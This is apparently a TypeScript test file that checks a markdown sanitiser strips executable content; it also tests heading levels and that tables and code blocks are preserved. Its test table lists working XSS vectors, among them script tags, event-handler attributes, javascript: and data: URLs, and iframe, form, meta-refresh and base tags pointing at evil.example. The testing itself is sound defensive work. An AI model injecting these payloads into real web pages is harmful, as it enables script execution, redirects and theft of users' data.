import { toJsxRuntime } from 'hast-util-to-jsx-runtime'
import { Fragment, jsx, jsxs } from 'react/jsx-runtime'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, test } from 'vitest'
import { sanitisedTree } from './sanitised-tree'

const html = (markdown: string) => renderToStaticMarkup(toJsxRuntime(sanitisedTree(markdown), { Fragment, jsx, jsxs }))

describe('W3: user text never executes', () => {
  test.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)></svg>',
    '<iframe src="https://evil.example"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '[x](javascript:alert(1))',
    '[x](  JaVaScRiPt:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '![x](javascript:alert(1))',
    '<style>body{display:none}</style>',
    '<div style="position:fixed;inset:0">x</div>',
    '<form action="https://evil.example"><input name="seed"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example">',
  ])('%s', (attack) => {
    const result = html(`Before\n\n${attack}\n\nAfter`)
    expect(result).toContain('Before')
    expect(result).toContain('After')
    expect(result).not.toMatch(/<(script|img|svg|iframe|style|form|input|meta|base)/i)
    expect(result).not.toMatch(/(on\w+|style|srcset)=/i)
    expect(result).not.toMatch(/(href|src)="(?!https?:)/i)
  })

  test('an image becomes a link, so that reading contacts nobody', () => {
    expect(html('![loss curve](https://lab.example/loss.png)')).toBe(
      '<p><a href="https://lab.example/loss.png" rel="nofollow ugc noopener noreferrer">Image: loss curve</a></p>',
    )
  })
})

test('headings begin below those of the page and skip no level', () => {
  expect(html('# Plan\n\n## Data')).toBe('<h3>Plan</h3>\n<h4>Data</h4>')
  expect(html('## Plan\n\n## Data')).toBe('<h3>Plan</h3>\n<h3>Data</h3>')
  expect(html('### Plan\n\n# Data\n\n### Cost')).toBe('<h3>Plan</h3>\n<h3>Data</h3>\n<h4>Cost</h4>')
})

test('tables, lists and code survive', () => {
  const result = html('| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n- two\n\n```sh\nmake eval\n```')
  expect(result).toContain('<td>1</td>')
  expect(result).toContain('<li>two</li>')
  expect(result).toContain('make eval')
})
